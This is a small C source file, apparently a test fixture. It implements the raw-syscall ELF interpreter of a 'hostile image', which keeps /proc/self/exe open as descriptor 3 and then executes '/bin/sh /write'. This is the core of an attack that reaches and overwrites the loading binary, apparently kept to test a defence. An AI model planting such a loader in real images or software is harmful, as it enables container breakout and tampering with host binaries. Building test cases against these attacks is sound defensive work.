/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The loader of a hostile image (its PT_INTERP): keeps a descriptor of the program that it was to load, as 3, and
 * becomes /bin/sh /write. It is no program that has a loader itself, and there is no C library where it runs. */
#include <fcntl.h>
#include <sys/syscall.h>

#if defined(__x86_64__)
__asm__(".globl _start\n_start: andq $-16, %rsp\ncall begin\n");

static long call(long number, long a, long b, long c) {
        register long d __asm__("r10") = 0;
        long r;

        __asm__ volatile("syscall" : "=a"(r) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d) : "rcx", "r11", "memory");
        return r;
}
#elif defined(__aarch64__)
__asm__(".globl _start\n_start: bl begin\n");

static long call(long number, long a, long b, long c) {
        register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
        register long x3 __asm__("x3") = 0;

        __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
        return x0;
}
#else
# error "how does this processor make a system call?"
#endif

void begin(void);

__attribute__((used)) void begin(void) {
        const char *const arguments[] = { "/bin/sh", "/write", 0 }, *const environment[] = { "PATH=/bin", 0 };

        call(SYS_openat, AT_FDCWD, (long) "/proc/self/exe", O_RDONLY);
        call(SYS_execve, (long) arguments[0], (long) arguments, (long) environment);
        call(SYS_exit, 99, 0, 0);
}
